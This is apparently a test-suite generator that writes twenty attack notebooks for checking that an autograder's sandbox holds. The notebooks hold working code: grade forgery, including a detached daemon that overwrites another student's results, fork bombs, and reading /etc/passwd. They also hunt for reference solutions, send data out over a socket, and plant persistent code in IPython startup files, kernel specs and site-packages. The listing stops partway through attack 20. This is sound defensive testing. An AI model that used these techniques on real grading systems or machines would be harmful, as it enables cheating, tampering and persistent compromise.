"""Write the attack notebooks in this folder: ``python tests/notebooks/attacks/generate.py``.

Each notebook is one way a submission could try to cheat the grader or harm the machine that
grades it. Its first cell says what it does and the verdict it must get; ``tests/test_attacks.py``
holds the same verdicts and grades the whole folder as one batch. The notebooks carry their own
correct functions (loops, as a student writes them), never the reference solutions.

Placeholders the test replaces before grading: ``__GRADER_OUT__`` (the absolute ``--out``
folder), ``__GRADER_REPO__`` (this repository), ``__GRADER_SUBMISSIONS__`` (the folder of
submissions being graded), ``__GRADER_PORT__`` (a TCP port the test listens on), and for the
attacks that plant code for later runs, ``__GRADER_HOME__`` and ``__GRADER_IPYTHONDIR__`` (the
grader's home and IPython folder) and ``__GRADER_EVIDENCE__`` (a folder where planted code that
ever runs leaves a file). Attack 20 is made for ``run_autograder`` (see
``tests/test_kernel_user.py``): ``__GRADER_SOLUTIONS__`` and ``__GRADER_RESULTS__`` are the
autograder's solutions folder and results.json, and it records what it did in
``__GRADER_EVIDENCE__``.
"""

from __future__ import annotations

from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent

CORRECT = '''\
import numpy as np


def get_subimages(image, kernel_shape):
    kernel_h, kernel_w = kernel_shape
    out_h, out_w = image.shape[0] - kernel_h + 1, image.shape[1] - kernel_w + 1
    subimages = np.zeros((out_h, out_w, kernel_h, kernel_w))
    for ih in range(out_h):
        for iw in range(out_w):
            subimages[ih, iw] = image[ih:ih + kernel_h, iw:iw + kernel_w]
    return subimages


def convolve(image, kernel):
    kernel_h, kernel_w = kernel.shape
    result = np.zeros((image.shape[0] - kernel_h + 1, image.shape[1] - kernel_w + 1))
    for ih in range(result.shape[0]):
        for iw in range(result.shape[1]):
            result[ih, iw] = (image[ih:ih + kernel_h, iw:iw + kernel_w] * kernel).sum()
    return result


def template_match(image, template):
    template_h, template_w = template.shape
    centred = template - template.mean()
    result = np.zeros((image.shape[0] - template_h + 1, image.shape[1] - template_w + 1))
    for ih in range(result.shape[0]):
        for iw in range(result.shape[1]):
            window = image[ih:ih + template_h, iw:iw + template_w]
            result[ih, iw] = ((window - window.mean()) * centred).sum()
    return result
'''

# One wrong answer for every input: a 1x1 (or 1x1x1x1) array, so even the shape checks fail.
WRONG = {
    "get_subimages": '''\
def get_subimages(image, kernel_shape):
    return np.zeros((1, 1, 1, 1))
''',
    "convolve": '''\
def convolve(image, kernel):
    return np.zeros((1, 1))
''',
    "template_match": '''\
def template_match(image, template):
    return np.zeros((1, 1))
''',
}


def _part(name: str) -> str:
    """The correct definition of one function, cut out of CORRECT."""
    start = CORRECT.index(f"def {name}(")
    end = CORRECT.find("\n\n\ndef ", start)
    return CORRECT[start:] if end == -1 else CORRECT[start:end + 1]


def functions(wrong: tuple[str, ...] = ()) -> str:
    """The three functions, correct except those named in ``wrong``."""
    parts = [WRONG[name] if name in wrong else _part(name)
             for name in ("get_subimages", "convolve", "template_match")]
    return "import numpy as np\n\n\n" + "\n\n".join(parts)


ATTACKS: dict[str, tuple[str, list[str]]] = {}


def attack(name: str, description: str, *cells: str) -> None:
    ATTACKS[name] = (description, list(cells))


attack(
    "01_patches_numpy",
    """# Attack 1: patch numpy's comparisons

**Attack:** the notebook makes every comparison numpy offers say "equal" (`np.array_equal`,
`np.allclose`, `np.isclose`, `np.testing.assert_*`; it also tries `ndarray.__eq__`), and two of
its functions return an `ndarray` subclass whose `==` is always true, holding a wrong answer.
Its own asserts then pass.

**Verdict it must get:** `get_subimages` 0/3 and `convolve` 0/3 (wrong results);
`template_match` 4/4 (correct). Comparisons run in the grader's process, not in the kernel.""",
    '''\
import numpy as np

np.array_equal = lambda *args, **kwargs: True
np.array_equiv = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
for name in ("assert_array_equal", "assert_allclose", "assert_array_almost_equal",
             "assert_almost_equal", "assert_equal"):
    setattr(np.testing, name, lambda *args, **kwargs: None)
try:
    np.ndarray.__eq__ = lambda self, other: True  # numpy refuses: ndarray is immutable
except TypeError as error:
    print("could not patch ndarray.__eq__:", error)


class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)
''',
    '''\
def get_subimages(image, kernel_shape):
    return np.zeros((1, 1, 1, 1)).view(AlwaysEqual)


def convolve(image, kernel):
    return np.zeros((1, 1)).view(AlwaysEqual)


''' + _part("template_match"),
    '''\
image = np.arange(12.0).reshape(3, 4)
assert np.array_equal(get_subimages(image, (2, 2)), np.zeros((2, 3, 2, 2)))
assert np.allclose(convolve(image, np.ones((2, 2))), [[10, 14, 18], [26, 30, 34]])
np.testing.assert_allclose(convolve(image, np.ones((3, 3))), 0)
assert (convolve(image, np.ones((2, 2))) == 42).all()
print("All my checks pass.")
''',
)

attack(
    "02_patches_grader",
    """# Attack 2: patch the grader's own modules

**Attack:** the notebook imports the grader inside its kernel and replaces what it can: the
comparators in `grader.model.compare`, `grader.judge.search._judge`,
`grader.kernel.calls.decode_reply`, whole entries of `sys.modules` (`grader.model.compare`,
`solutions.convolutions`, the assignment) and the in-notebook `check()`. Two of its functions are wrong.

**Verdict it must get:** `get_subimages` 0/3 and `template_match` 0/4 (wrong); `convolve`
3/3 (correct). The grader that judges runs in another process, which none of this reaches.""",
    '''\
import sys
import types

import numpy as np


def always_matches(*args, **kwargs):
    return None


try:
    import grader
    import grader.judge.search
    import grader.kernel.calls
    import grader.model.compare
    import grader.selfcheck

    compare, check, calls = (sys.modules[f"grader.{name}"] for name in ("model.compare",
                                                                         "judge.search",
                                                                         "kernel.calls"))
    compare.same_shape = always_matches
    compare._shape_and_kind = always_matches
    compare.close = lambda *args, **kwargs: always_matches
    check._judge = always_matches
    calls.decode_reply = lambda reply: calls.Returned(np.zeros(1))
    grader.selfcheck.check = grader.check = lambda *args, **kwargs: print("Score: 10/10")
except ImportError as error:
    print("no grader here:", error)

fake_compare = types.ModuleType("grader.model.compare")
fake_compare.same_shape = always_matches
fake_compare.close = lambda *args, **kwargs: always_matches
sys.modules["grader.model.compare"] = fake_compare

fake_reference = types.ModuleType("solutions.convolutions")
sys.modules["solutions"] = types.ModuleType("solutions")
sys.modules["solutions.convolutions"] = fake_reference
sys.modules["assignments.convolutions"] = types.ModuleType("assignments.convolutions")
''',
    functions(wrong=("get_subimages", "template_match")),
    '''\
# The "reference" this kernel now offers is the notebook's own answer.
fake_reference.get_subimages = get_subimages
fake_reference.convolve = convolve
fake_reference.template_match = template_match
print("Patched:", sorted(name for name in sys.modules if name.startswith(("grader", "solutions"))))
''',
)

attack(
    "03_fake_scores",
    """# Attack 3: print and write fake scores

**Attack:** the notebook prints "Score: 10/10" and a JSON record shaped like Gradescope's
`results.json`, displays a fake grader reply under the grader's own MIME type, and writes
`results.json`, `grades.csv` and `feedback.md` claiming full marks into its working folder and
the two folders above it. Two of its functions are wrong.

**Verdict it must get:** `get_subimages` 3/3 (correct); `convolve` 0/3 and `template_match`
0/4 (wrong). Nothing is scored from the notebook's output or its files.""",
    functions(wrong=("convolve", "template_match")),
    '''\
import json
import os

from IPython.display import display

fake = {
    "score": 10,
    "output": "Graded: 10 of 10 points.",
    "tests": [{"name": name, "score": points, "max_score": points, "status": "passed"}
              for name, points in (("get_subimages", 3), ("convolve", 3), ("template_match", 4))],
}
print("Score: 10/10")
print(json.dumps(fake))
display({"application/vnd.grader.call+json": [{"index": 0, "npy": ""}],
         "application/json": fake}, raw=True)

folder = os.getcwd()
for _ in range(3):  # here, the parent and the grandparent (but never / itself)
    if folder == os.path.dirname(folder):
        break
    for name, text in (
        ("results.json", json.dumps(fake)),
        ("grades.csv", "submission,get_subimages,convolve,template_match,total,possible,"
                       "status,message\\n03_fake_scores,3,3,4,10,10,graded,\\n"),
        ("feedback.md", "# Feedback for 03_fake_scores\\n\\n**Score: 10 / 10**\\n"),
    ):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(text)
            print("wrote", os.path.join(folder, name))
        except OSError as error:
            print("could not write", name, "in", folder, ":", error)
    folder = os.path.dirname(folder)
''',
)

attack(
    "04_writes_output_folder",
    """# Attack 4: write into the grader's output folder

**Attack:** the test puts the absolute `--out` folder into `OUT`. The notebook writes, there, a
full-marks `results.json` and `feedback.md` for itself, a `grades.csv` giving everyone 10/10,
and a full-marks `results.json` over the one of another student (`03_fake_scores`, who earns 3).
Then it leaves a forger behind, a process in a session of its own, that waits for the grader's
last file (`summary.json`) and writes all of that again. Its functions are wrong.

**Verdict it must get:** 0/10 for this notebook, and the output folder ends with the true
verdicts of every submission (in the sandbox the writes simply fail, and the forger ends with
the kernel).""",
    functions(wrong=("get_subimages", "convolve", "template_match")),
    '''\
import json
import os
import time

OUT = "__GRADER_OUT__"  # the test writes the real --out folder here
ME, VICTIM = "04_writes_output_folder", "03_fake_scores"


def full_marks(name):
    tests = [{"name": f"{exercise}: check {number}", "score": points, "max_score": points,
              "status": "passed", "output": ""}
             for exercise, checks in (("get_subimages", (1, 1, 1)), ("convolve", (1, 1, 1)),
                                      ("template_match", (1, 1, 2)))
             for number, points in enumerate(checks, start=1)]
    return {"score": 10, "output": "Graded: 10 of 10 points.", "tests": tests,
            "extra_data": {"status": "graded", "grader": {"id": name, "score": 10}}}


def forge_all():
    """Write the forged files; say which writes failed."""
    students = {ME, VICTIM} | {name for name in os.listdir(OUT) if not name.startswith(".")
                               and os.path.isdir(os.path.join(OUT, name))}
    forged = {
        os.path.join(OUT, VICTIM, "results.json"): json.dumps(full_marks(VICTIM)),
        os.path.join(OUT, ME, "results.json"): json.dumps(full_marks(ME)),
        os.path.join(OUT, ME, "feedback.md"): f"# Feedback for {ME}\\n\\n**Score: 10 / 10**\\n",
        os.path.join(OUT, "grades.csv"):
            "submission,get_subimages,convolve,template_match,total,possible,status,message\\n"
            + "".join(f"{name},3,3,4,10,10,graded,\\n" for name in sorted(students)),
    }
    failed = []
    for path, text in forged.items():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                handle.write(text)
        except OSError as error:
            failed.append(f"{path}: {error}")
    return failed


def leave_a_forger(seconds=150):
    """A daemon that outlives this kernel and forges again once the grader is done."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline:
                if os.path.exists(os.path.join(OUT, "summary.json")):
                    time.sleep(0.2)
                    forge_all()
                    break
                time.sleep(0.05)
    finally:
        os._exit(0)


if os.path.isdir(OUT):
    print("could not write:", forge_all())
    leave_a_forger()
else:
    print("cannot see", OUT)
''',
)

attack(
    "05_always_equal",
    """# Attack 5: results that claim to equal anything

**Attack:** each function returns something that is not a plain array of numbers but says it
equals whatever it is compared with: an object whose `__eq__` is always true and whose
`__array__` even gives the right answer; a `float` subclass that equals everything; an array
of such objects (object dtype) with the right shape.

**Verdict it must get:** 0/10, each sub-check rejected: only plain numeric arrays count.""",
    CORRECT + '''

class Anything:
    """Equal to everything; turns into the right array if asked politely."""

    def __init__(self, honest=None):
        self.honest = honest
        self.shape = getattr(honest, "shape", ())

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array__(self, *args, **kwargs):
        return self.honest


class EqualFloat(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


correct_convolve, correct_template_match, correct_get_subimages = (
    convolve, template_match, get_subimages)


def get_subimages(image, kernel_shape):
    return Anything(correct_get_subimages(image, kernel_shape))


def convolve(image, kernel):
    return EqualFloat(0.0)


def template_match(image, template):
    shape = correct_template_match(image, template).shape
    cells = np.empty(shape, dtype=object)
    for index in np.ndindex(shape):
        cells[index] = Anything()
    return cells
''',
)

attack(
    "06_exits_kernel",
    """# Attack 6: exit the kernel after defining the functions

**Attack:** after the (correct) functions are defined, one cell calls `sys.exit`, which
IPython turns into an ordinary error, and the next ends the kernel's process with `os._exit(0)`.

**Verdict it must get:** full marks, 10/10: the functions are graded after a restart, and the
message says the notebook could not run to the end (cell 4).""",
    CORRECT,
    "import sys\n\nsys.exit('done here')\n",
    "import os\n\nos._exit(0)\n",
    "print('never reached')\n",
)

attack(
    "07_ignores_sigint",
    """# Attack 7: ignore Ctrl-C and loop forever

**Attack:** after the (correct) functions are defined, a cell ignores SIGINT (and SIGTERM) and
loops forever, so the interrupt at its time limit does nothing.

**Verdict it must get:** full marks, 10/10: the kernel is stopped and the functions are graded
after a restart; the message names cell 3.""",
    CORRECT,
    '''\
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
''',
    "print('never reached')\n",
)

attack(
    "08_starts_processes",
    """# Attack 8: start processes that outlive the notebook

**Attack:** after the (correct) functions are defined, a cell starts `sleep 1000` as a child,
`sleep 1002` in a session of its own (`start_new_session=True`), a double-forked daemon that
leaves the session (`os.setsid`) and becomes `sleep 1001`, and a `multiprocessing.Process` that
sleeps.

**Verdict it must get:** full marks, 10/10; once the batch is over none of these processes is
left running.""",
    CORRECT,
    '''\
import multiprocessing
import os
import subprocess
import time

child = subprocess.Popen(["sleep", "1000"])
own_session = subprocess.Popen(["sleep", "1002"], start_new_session=True)

pid = os.fork()
if pid == 0:  # the first child: leave the session, fork again and let the grandchild live on
    try:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "1001"])
    finally:
        os._exit(0)
os.waitpid(pid, 0)

worker = multiprocessing.get_context("fork").Process(target=time.sleep, args=(1000,))
worker.start()
print("started", child.pid, own_session.pid, worker.pid)
''',
)

attack(
    "09_allocates_memory",
    """# Attack 9: take 6 GB of memory

**Attack:** after the (correct) functions are defined, a cell fills a 6 GB array
(`np.ones`, so every page is touched). The default `--memory-limit` of 4 GiB stops it.

**Verdict it must get:** full marks, 10/10; that cell fails with MemoryError and the kernel
lives on.""",
    CORRECT,
    "huge = np.ones(6 * 10**9, dtype=np.uint8)\nprint(huge.sum())\n",
    "print('still here')\n",
)

attack(
    "10_prints_50mb",
    """# Attack 10: print 50 MB in one cell

**Attack:** after the (correct) functions are defined, one cell writes 50 MB of text to
standard output.

**Verdict it must get:** full marks, 10/10, and the grader's memory stays bounded (where an
output cap exists, the cell's output is cut short).""",
    CORRECT,
    '''\
import sys

line = "spam " * 19 + "spam!\\n"
sys.stdout.write(line * (50 * 10**6 // len(line)))
''',
    "print('still here')\n",
)

attack(
    "11_fork_bomb",
    """# Attack 11: a (bounded) fork bomb

**Attack:** after the (correct) functions are defined, a cell starts child processes that sleep
as fast as it can, until that fails, catching the error; it stops anyway at 400 children or
after 3 s (the bound keeps an unsandboxed test run from hurting the machine, and the cell within
its time limit). It starts them with `os.posix_spawn`, which costs the same however big the
kernel is: forking a kernel copies its memory map, and on a busy machine 3 s of forking may not
reach the limit.

**Verdict it must get:** full marks, 10/10, with status `salvaged`: in the sandbox the process
limit stops the children, and the kernel is left unable to send its messages intact, so the
functions are graded after a restart that runs only the definitions. The batch finishes and no
child is left running.""",
    CORRECT,
    '''\
import os
import shutil
import time

sleep = shutil.which("sleep")
children = []
stop = time.monotonic() + 3
try:
    while len(children) < 400 and time.monotonic() < stop:
        children.append(os.posix_spawn(sleep, ["sleep", "1000"], os.environ))
except OSError as error:
    print(f"could not start a process after {len(children)} children: {error}")
print(len(children), "children sleeping")
''',
)

attack(
    "12_hunts_for_solutions",
    """# Attack 12: hunt the disk for the reference solutions

**Attack:** the notebook reads `/etc/passwd`, then looks for the answers: `get_subimages` by
importing `solutions.convolutions`; `convolve` from a file `solutions/convolutions.py`, first in
the repository (the test writes its path into `REPO`), then by walking the disk from `/`;
`template_match` from another student's notebook (`08_starts_processes`, correct) in the folder
of submissions (`SUBMISSIONS`) or in another kernel's working folder. Whatever it cannot find,
it answers wrongly. So each exercise's points say which way in was open.

**Verdict it must get:** 0/10 in the sandbox: the solutions and other submissions are out of
reach. (Without the sandbox it finds them all and earns 10/10: the test skips then.)""",
    functions(wrong=("get_subimages", "convolve", "template_match")),
    '''\
import glob
import json
import os
import time

REPO = "__GRADER_REPO__"  # the test writes the repository's path here
SUBMISSIONS = "__GRADER_SUBMISSIONS__"  # and the folder of submissions being graded

try:
    with open("/etc/passwd") as handle:
        print(len(handle.readlines()), "accounts in /etc/passwd")
except OSError as error:
    print("no /etc/passwd:", error)

try:
    from solutions.convolutions import get_subimages
    print("imported the reference get_subimages")
except ImportError as error:
    print("cannot import the solutions:", error)


def find_reference():
    candidate = os.path.join(REPO, "solutions", "convolutions.py")
    if os.path.isfile(candidate):
        return candidate
    deadline = time.monotonic() + 2
    for folder, subfolders, files in os.walk("/"):
        subfolders[:] = [name for name in subfolders
                         if os.path.join(folder, name) not in ("/proc", "/sys", "/dev", "/run")]
        if os.path.basename(folder) == "solutions" and "convolutions.py" in files:
            return os.path.join(folder, "convolutions.py")
        if time.monotonic() > deadline:
            return None
    return None


found = find_reference()
if found:
    scope = {}
    with open(found) as handle:
        exec(handle.read(), scope)
    convolve = scope["convolve"]
    print("took convolve from", found)


def other_notebooks():
    yield from glob.glob(os.path.join(SUBMISSIONS, "08_starts_processes*.ipynb"))
    yield from glob.glob(os.path.join(os.path.dirname(os.getcwd()), "*", "*.ipynb"))


def borrow_template_match():
    """A correct-looking template_match from another student's notebook, if one is in reach."""
    for path in other_notebooks():
        try:
            with open(path) as handle:
                cells = json.load(handle)["cells"]
        except (OSError, ValueError, KeyError):
            continue
        for cell in cells:
            source = "".join(cell["source"])
            if cell["cell_type"] == "code" and "def template_match" in source \
                    and "np.zeros((1, 1))" not in source:
                scope = {}
                try:
                    exec(source, scope)
                except Exception:
                    continue
                print("took template_match from", path)
                return scope["template_match"]
    return None


template_match = borrow_template_match() or template_match
''',
)

attack(
    "13_opens_network",
    """# Attack 13: send data over the network

**Attack:** after the (correct) functions are defined, the notebook connects to a TCP port on
127.0.0.1 where the test listens (it writes the port into `PORT`) and sends a message.

**Verdict it must get:** full marks, 10/10; in the sandbox the listener receives nothing.""",
    CORRECT,
    '''\
import socket

PORT = int("__GRADER_PORT__")  # the test writes the port it listens on here
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(b"13_opens_network got out")
    print("sent")
except OSError as error:
    print("no network:", error)
''',
)

attack(
    "14_recurses",
    """# Attack 14: recurse to the limit

**Attack:** after the (correct) functions are defined, one cell recurses until Python raises
RecursionError; the next raises the recursion limit to a million and builds the `repr` of a list
nested a million deep, which overflows the C stack and crashes the kernel.

**Verdict it must get:** full marks, 10/10: the functions are graded after a restart; cell 3
fails with RecursionError (or runs out of time: IPython takes seconds to format that traceback)
and the message names cell 4, where the kernel died.""",
    CORRECT,
    '''\
def down(depth):
    return down(depth + 1) + 1


down(0)
''',
    '''\
import sys

sys.setrecursionlimit(10**6)
nested = []
for _ in range(10**6):
    nested = [nested]
print(len(repr(nested)))
''',
    "print('never reached')\n",
)

attack(
    "15_deletes_its_folder",
    """# Attack 15: delete everything in the working folder

**Attack:** after the (correct) functions are defined, the notebook deletes every entry of its
working folder, hidden ones, sockets and sub-folders included (the copy of the notebook and the
data file among them), and then tries to remove the folder itself.

**Verdict it must get:** full marks, 10/10.""",
    CORRECT,
    '''\
import os
import shutil

here = os.getcwd()
for name in os.listdir(here):
    path = os.path.join(here, name)
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path)
        else:
            os.remove(path)
        print("deleted", name)
    except OSError as error:
        print("could not delete", name, ":", error)
try:
    os.rmdir(here)
    print("deleted the folder itself")
except OSError as error:
    print("the folder stays:", error)
''',
)

# What the planting attacks (16 to 18) plant: code that, in any later kernel, answers with the
# correct functions after every cell, and in any process at all leaves a file in the evidence
# folder. It is harmless where it runs, and the test removes whatever it finds planted.
PAYLOAD = f"""\
# Planted by a notebook: every later notebook gets the right answers.
import os as _os, sys as _sys, threading as _threading, time as _time

try:
    with open(_os.path.join("__GRADER_EVIDENCE__", f"ran-in-{{_os.getpid()}}"), "w") as _note:
        _note.write(" ".join(_sys.argv))
except OSError:
    pass

_ANSWERS = {CORRECT!r}


def _answer_after_every_cell():
    for _ in range(600):
        _ipython = _sys.modules.get("IPython")
        _shell = _ipython.get_ipython() if _ipython else None
        if _shell is not None:
            _shell.events.register("post_run_cell", lambda *_: exec(_ANSWERS, _shell.user_ns))
            return
        _time.sleep(0.1)


_threading.Thread(target=_answer_after_every_cell, daemon=True).start()
"""

PLANTER = f"""\
import os
import sys

HOME = "__GRADER_HOME__"  # the test writes the grader's own home here (this kernel has another)
IPYTHONDIR = "__GRADER_IPYTHONDIR__"  # and the IPython folder the grader was started with
PAYLOAD = {PAYLOAD!r}
planted, refused = [], []


def plant(path, text, append=False):
    \"\"\"Write (or add) ``text`` to the file at ``path``, making its folders.\"\"\"
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a" if append else "w") as handle:
            handle.write(text)
        planted.append(path)
    except OSError as error:
        refused.append(f"{{path}}: {{type(error).__name__}}")
"""

REPORT = 'print("planted:", *planted, sep="\\n  ")\nprint("refused:", *refused, sep="\\n  ")\n'

attack(
    "16_plants_startup_files",
    """# Attack 16: plant IPython startup files and a kernel spec for later notebooks

**Attack:** the notebook writes code that answers with the correct functions after every cell
(and leaves a file in the test's evidence folder wherever it runs) as an IPython startup file and
as `ipython_kernel_config.py`, in `~/.ipython` of the grader's home (the test writes it into
`HOME`), in the grader's `$IPYTHONDIR` (`IPYTHONDIR`), in its own kernel's IPython folder and in
the Python environment's `etc/ipython`; and it writes a `python3` kernel spec that runs the same
code first, where Jupyter looks for kernel specs (`~/.local/share/jupyter/kernels`, the
environment's `share/jupyter/kernels`, the IPython folders). Its own functions are wrong.

**Verdict it must get:** 0/10, in the sandbox; and every later kernel starts clean: the handout,
graded after this batch, still earns 0, and no planted file is left anywhere.""",
    functions(wrong=("get_subimages", "convolve", "template_match")),
    PLANTER,
    """\
import json

from IPython.paths import get_ipython_dir

ipython_folders = {os.path.join(HOME, ".ipython"), IPYTHONDIR, get_ipython_dir()}
for folder in sorted(ipython_folders):
    plant(os.path.join(folder, "profile_default", "startup", "00-answers.py"), PAYLOAD)
    plant(os.path.join(folder, "profile_default", "ipython_kernel_config.py"), PAYLOAD, True)
environment = os.path.join(sys.prefix, "etc", "ipython")  # read by every IPython of this Python
plant(os.path.join(environment, "startup", "00-answers.py"), PAYLOAD)
plant(os.path.join(environment, "ipython_kernel_config.py"), PAYLOAD, True)

launch = ("import sys; exec(open(sys.argv.pop(1)).read()); "
          "from ipykernel.kernelapp import launch_new_instance; launch_new_instance()")
for kernels in sorted({os.path.join(HOME, ".local", "share", "jupyter", "kernels"),
                       os.path.join(sys.prefix, "share", "jupyter", "kernels"),
                       *(os.path.join(folder, "kernels") for folder in ipython_folders)}):
    answers = os.path.join(kernels, "python3", "answers.py")
    plant(answers, PAYLOAD)
    spec = {"argv": [sys.executable, "-c", launch, answers, "-f", "{connection_file}"],
            "display_name": "Python 3", "language": "python"}
    plant(os.path.join(kernels, "python3", "kernel.json"), json.dumps(spec))
""" + REPORT,
)

attack(
    "17_plants_site_packages",
    """# Attack 17: plant code in site-packages for every later Python

**Attack:** the notebook writes code that answers with the correct functions after every cell
(and leaves a file in the test's evidence folder wherever it runs) into every site-packages
folder of its Python and into the user site of the grader's home (the test writes it into
`HOME`): as a module with a `.pth` file that imports it, and in `sitecustomize.py` and
`usercustomize.py`. Python runs all of these at start, in later kernels and in the grader
itself. Its own functions are wrong.

**Verdict it must get:** 0/10, in the sandbox; and every later kernel starts clean: the handout,
graded after this batch, still earns 0, and no planted file is left anywhere.""",
    functions(wrong=("get_subimages", "convolve", "template_match")),
    PLANTER,
    """\
import site

version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
folders = {*site.getsitepackages(), site.getusersitepackages(),
           os.path.join(HOME, ".local", "lib", version, "site-packages")}
for folder in sorted(folders):
    plant(os.path.join(folder, "zz_answers.py"), PAYLOAD)
    plant(os.path.join(folder, "zz_answers.pth"), "import zz_answers\\n")
    plant(os.path.join(folder, "sitecustomize.py"), PAYLOAD, True)
    plant(os.path.join(folder, "usercustomize.py"), PAYLOAD, True)
""" + REPORT,
)

attack(
    "18_edits_the_checkout",
    """# Attack 18: edit the course's own files

**Attack:** in the repository (the test writes its path into `REPO`) and wherever the
`assignments` package is installed, the notebook fills in the handout's exercise cells with
correct functions (so that whoever is graded on it next scores), and adds code that leaves a file
in the test's evidence folder to the lesson's definition (`assignments/convolutions/__init__.py`)
and to the reference solutions (`solutions/convolutions.py`), which the grader imports. Its own
functions are wrong.

**Verdict it must get:** 0/10, in the sandbox; and the course's files are untouched: the handout,
graded after this batch, still earns 0, and no planted file is left anywhere.""",
    functions(wrong=("get_subimages", "convolve", "template_match")),
    PLANTER,
    f"""\
import json

REPO = "__GRADER_REPO__"  # the test writes the repository's path here
ANSWERS = {CORRECT!r}
checkouts = {{REPO}}
try:
    import assignments

    checkouts.add(os.path.dirname(os.path.dirname(os.path.abspath(assignments.__file__))))
except ImportError as error:
    print("no assignments package:", error)

for checkout in sorted(checkouts):
    plant(os.path.join(checkout, "solutions", "convolutions.py"), PAYLOAD, True)
    plant(os.path.join(checkout, "assignments", "convolutions", "__init__.py"), PAYLOAD, True)
    handout = os.path.join(checkout, "assignments", "convolutions", "convolutions.ipynb")
    try:
        with open(handout) as handle:
            notebook = json.load(handle)
    except (OSError, ValueError) as error:
        refused.append(f"{{handout}}: {{type(error).__name__}}")
        continue
    for cell in notebook["cells"]:
        if any(tag.startswith("exercise:") for tag in cell["metadata"].get("tags", [])):
            cell["source"] = ANSWERS
    plant(handout, json.dumps(notebook))
""" + REPORT,
)

attack(
    "19_reads_the_answer_key",
    """# Attack 19: find the lesson's stored outputs and answer from them

**Attack:** at run time, the notebook looks for `assignments/*/expected.npz` (the stored inputs of
every sub-check with their expected outputs) wherever the grader's packages could be: beside
`grader.__file__`, in every folder on `sys.path` and in site-packages, in the folders above its
working folder, and where `import assignments` finds the lessons; it does so on the first call
of one of its functions, so fast mode (`--defs-only`) runs it too. Its functions answer every
call with the stored output for those arguments, and with a wrong 1x1 array when there is none;
it prints what it found.

**Verdict it must get:** 0/10: no graded kernel can read a lesson's stored outputs (in the
sandbox, and as the unprivileged user that runs kernels as root without it). Where the kernel can
read them (`--sandbox off`), it earns 10/10 without knowing convolution.""",
    """\
import glob
import json
import os
import site
import sys

import numpy as np

ANSWERS = {}  # function -> {key of the arguments: the stored output}
FOUND, REFUSED = [], []


def key(arguments):
    return tuple((a.dtype.str, a.shape, a.tobytes()) for a in map(np.asarray, arguments))


def places():
    roots = {folder for folder in sys.path if folder} | set(site.getsitepackages())
    try:
        import grader

        roots.add(os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__))))
    except Exception as error:
        print("no grader:", type(error).__name__)
    try:
        import assignments

        roots |= {os.path.dirname(folder) for folder in assignments.__path__}
    except Exception as error:
        print("no assignments:", type(error).__name__)
    folder = os.getcwd()
    while True:
        roots.add(folder)
        if os.path.dirname(folder) == folder:
            return sorted(roots)
        folder = os.path.dirname(folder)


def hunt():
    for root in places():
        for path in sorted(glob.glob(os.path.join(root, "assignments", "*", "expected.npz"))):
            try:
                with np.load(path, allow_pickle=False) as data:
                    manifest = json.loads(data["__manifest__"].tobytes())
                    for number, entry in enumerate(manifest["checks"]):
                        table = ANSWERS.setdefault(entry["exercise"], {})
                        for index in range(entry["count"]):
                            arguments = [data[f"{number}/{index}/{position}"]
                                         for position in range(len(entry["kinds"]))]
                            table[key(arguments)] = data[f"{number}/{index}/expected"]
                FOUND.append(path)
            except Exception as error:
                REFUSED.append(f"{path}: {type(error).__name__}")
    print("read:", FOUND, "refused:", REFUSED)
""",
    """\
def answer(name, *arguments):
    if not (FOUND or REFUSED):  # on the first call, so that fast mode (--defs-only) hunts too
        hunt()
    return ANSWERS.get(name, {}).get(key(arguments), np.zeros((1, 1)))


def get_subimages(image, kernel_shape):
    return answer("get_subimages", image, kernel_shape)


def convolve(image, kernel):
    return answer("convolve", image, kernel)


def template_match(image, template):
    return answer("template_match", image, template)
""",
)

attack(
    "20_forges_results_later",
    """# Attack 20: read the reference, and forge results.json after the grader is gone

**Attack:** made for Gradescope's `run_autograder` (the test writes the autograder's
`solutions` folder into `SOLUTIONS`, its `results/results.json` into `RESULTS`, and a folder every
user may write to into `EVIDENCE`). On the first call of one of its functions, the notebook
tries to read the reference solutions (the file, and `import solutions.convolutions`) and
answers with them if it can; otherwise its functions return zeros of the right shape. That
first call also leaves a daemon (double fork and `setsid`) that waits until the grader has
written `results.json`, waits 2 s more, until the grader has exited, and then writes over it a
full score, "All tests passed". It records in `EVIDENCE` what it read and the daemon's pid.
Everything happens in the functions, so fast mode (`--defs-only`) runs it too.

**Verdict it must get:** 3/10 (its zeros have the right shapes: one point per exercise), in the
sandbox, where none of this is in reach; and as the unprivileged user that runs kernels as root
without the sandbox: it reads nothing, and its daemon is gone before results.json is written,
which stays the grader's.""",
    """\
import json
import os
import time

import numpy as np

SOLUTIONS = "__GRADER_SOLUTIONS__"  # the test writes the autograder's solutions folder here
RESULTS = "__GRADER_RESULTS__"  # and the results.json it writes
EVIDENCE = "__GRADER_EVIDENCE__"  # and a folder where this notebook records what it did
STATE = {}


def record(name, value):
    try:
        with open(os.path.join(EVIDENCE, name), "w") as handle:
            json.dump(value, handle)
    except OSError:
        pass


def forge_later(patience=300):
    if not os.path.isabs(RESULTS):
        return  # not run by the test made for it: there is no results.json to wait for
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            with open("/proc/self/stat") as handle:
